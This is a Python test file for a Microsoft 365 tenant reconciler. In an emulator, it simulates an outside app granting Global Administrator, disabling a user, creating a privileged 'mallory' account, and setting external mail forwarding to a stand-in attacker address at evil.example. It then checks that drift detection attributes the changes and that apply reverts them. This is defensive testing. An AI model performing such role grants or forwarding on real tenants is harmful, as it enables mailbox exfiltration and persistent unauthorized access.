"""Issue 13's scenario on a served emulator: import a messy tenant, then another app
grants Global Administrator, disables a user, adds a membership, sets external
forwarding and creates a new user with a role. Drift exits 2 and names who and when;
under the tenant's defaults the next apply reverts the managed ones."""

from __future__ import annotations

import json

import httpx

from reconciler.emulator.app import Emulator
from reconciler.emulator.server import serve_in_background
from reconciler.emulator.transport import RedirectingTransport
from reconciler.graph.auth import msal_auth
from reconciler.graph.client import GraphClient
from reconciler.graph.exchange import ExchangeClient
from tests.emulated import user_body
from tests.tenancy import (
    E3,
    GLOBAL_ADMIN,
    HELPDESK,
    TENANT_ID,
    audits,
    cli_run,
    make_tenant,
    oid,
    small_seed,
    store,
)

RECONCILER = "00000000-0000-4000-8000-0000000000bb"  # the reconciler's own app
PORTAL = "00000000-0000-4000-8000-0000000000aa"  # another app, outside git
ENV = {"RECONCILER_CLIENT_SECRET": "reconciler-secret"}

DEFAULTS = """\
defaults:
  directoryRoles: []
  profile: {accountEnabled: true}
  mailbox:
    forwarding: null
    permissions: {fullAccess: [], sendAs: [], sendOnBehalf: []}
"""
BOB, DAVE, ALICE = oid("bob@contoso.com"), oid("dave@contoso.com"), oid("alice@contoso.com")


def imported(tmp_path):
    """A messy tenant served over loopback; the reconciler signs in as its own app."""
    seed = small_seed()
    bob = next(u for u in seed["users"] if u["userPrincipalName"] == "bob@contoso.com")
    bob["assignedLicenses"] = [{"skuId": E3, "disabledPlans": []}]  # bob has a mailbox
    seed["applications"] = [
        {"appId": RECONCILER, "displayName": "reconciler",
         "passwordCredentials": [{"secretText": ENV["RECONCILER_CLIENT_SECRET"]}]},
        {"appId": PORTAL, "displayName": "HR portal",
         "passwordCredentials": [{"secretText": "portal-secret"}]}]
    folder = make_tenant(tmp_path, {}, seed=seed, tenant_extra=DEFAULTS)
    origin, server = serve_in_background(Emulator(folder / "state.db", seed=seed))
    tenant = (folder / "tenant.yaml").read_text()
    tenant = tenant.replace('graph: {url: "emulator:state.db"}', f"graph: {{url: {origin}}}")
    tenant = tenant.replace("auth: {method: none}",
                            f"auth: {{method: client_secret, clientId: {RECONCILER}}}")
    (folder / "tenant.yaml").write_text(tenant)
    result = cli_run("import", "--tenant", str(folder), env=ENV)
    assert result.exit_code == 0, result.output
    assert cli_run("plan", str(folder), "--detailed-exitcode", env=ENV).exit_code == 0
    return folder, origin, server


def portal_client(origin: str) -> GraphClient:
    http = httpx.Client(transport=RedirectingTransport(origin))
    return GraphClient(http, msal_auth("client_secret", PORTAL, TENANT_ID, http,
                                       {"RECONCILER_CLIENT_SECRET": "portal-secret"}))


def another_app_changes_the_tenant(origin: str) -> None:
    graph = portal_client(origin)
    assert graph.write("POST", "/roleManagement/directory/roleAssignments", {
        "roleDefinitionId": GLOBAL_ADMIN, "principalId": BOB,
        "directoryScopeId": "/"}).ok
    assert graph.write("PATCH", f"/users/{DAVE}", {"accountEnabled": False}).ok
    assert graph.write("PATCH", f"/groups/{oid('group:Oncall')}", {
        "members@odata.bind": [
            f"https://graph.microsoft.com/v1.0/directoryObjects/{ALICE}"]}).ok
    exchange = ExchangeClient(graph.http, graph.sender.tokens, TENANT_ID)
    exchange.invoke("Set-Mailbox", {"Identity": "bob@contoso.com",
                                    "ForwardingSmtpAddress": "smtp:drop@evil.example",
                                    "DeliverToMailboxAndForward": True})
    created = graph.write("POST", "/users", user_body("mallory@contoso.com"))
    assert created.ok
    assert graph.write("POST", "/roleManagement/directory/roleAssignments", {
        "roleDefinitionId": HELPDESK, "principalId": created.body["id"],
        "directoryScopeId": "/"}).ok


def test_drift_sees_each_change_with_who_and_when_and_apply_reverts_them(tmp_path):
    folder, origin, server = imported(tmp_path)
    try:
        scenario(folder, origin)
    finally:
        server.shutdown()


def scenario(folder, origin: str) -> None:
    assert cli_run("drift", str(folder), env=ENV).exit_code == 0
    another_app_changes_the_tenant(origin)

    result = cli_run("drift", str(folder), "--format", "json", env=ENV)
    assert result.exit_code == 2, result.output
    report = json.loads(result.stdout)
    changes = {(c["user"], c["kind"], c["op"], c["target"]) for c in report["changes"]}
    assert changes == {
        ("bob@contoso.com", "directoryRole", "remove", "Global Administrator"),
        ("dave@contoso.com", "profile", "change", "accountEnabled"),
        ("alice@contoso.com", "group", "remove", "Oncall"),
        ("bob@contoso.com", "forwarding", "remove", "forwarding"),
    }
    who = {(a["user"], a["kind"], a["by"]) for a in report["attribution"]}
    assert who >= {
        ("bob@contoso.com", "directoryRole", "HR portal"),
        ("dave@contoso.com", "profile", "HR portal"),
        ("alice@contoso.com", "group", "HR portal"),
        ("bob@contoso.com", "forwarding", "HR portal"),
        ("mallory@contoso.com", "unmanaged", "HR portal"),
    }
    assert all(a["at"] for a in report["attribution"])
    mallory = next(e for e in report["unmanaged"] if e["principal"] == "mallory@contoso.com")
    assert mallory["privileged"] is True and mallory["roles"] == ["Helpdesk Administrator"]
    assert report["unmanaged"][0]["privileged"]  # privileged first
    text = cli_run("drift", str(folder), env=ENV).stdout
    assert "Without a file (listed, never changed; privileged first):" in text
    assert "! mallory@contoso.com: directory roles: Helpdesk Administrator (privileged)" in text

    before = len(audits(folder))
    result = cli_run("apply", str(folder), "--auto-approve", env=ENV)
    assert result.exit_code == 0, result.output
    db = store(folder)
    assert db.get_object(DAVE)["accountEnabled"] is True
    removed = [a for a in audits(folder)[before:]
               if a["activityDisplayName"] == "Remove member from group"]
    assert [a["targetResources"][0]["id"] for a in removed] == [oid("group:Oncall")]
    written = {(a["activityDisplayName"], a["targetResources"][0].get("userPrincipalName"))
               for a in audits(folder)[before:] if a.get("targetResources")}
    assert ("Update user", "dave@contoso.com") in written
    assert ("Remove member from role", "bob@contoso.com") in written
    assert not any(upn == "mallory@contoso.com" for _, upn in written)  # never changed
    box = db.item(BOB, "mailbox", "mailbox")
    assert not box.get("ForwardingSmtpAddress")
    assert cli_run("plan", str(folder), "--detailed-exitcode", env=ENV).exit_code == 0
    # our own writes are in the directory audit under our app id, never blamed on anyone
    assert {a["initiatedBy"]["app"]["appId"] for a in audits(folder)[before:]} == {RECONCILER}
    # mallory still holds her role and has no file: drift keeps saying so
    after = cli_run("drift", str(folder), "--format", "json", env=ENV)
    assert after.exit_code == 2
    report = json.loads(after.stdout)
    assert report["changes"] == [] and report["waiting"] == []
    assert {a["by"] for a in report["attribution"]} == {"HR portal"}  # never "reconciler"
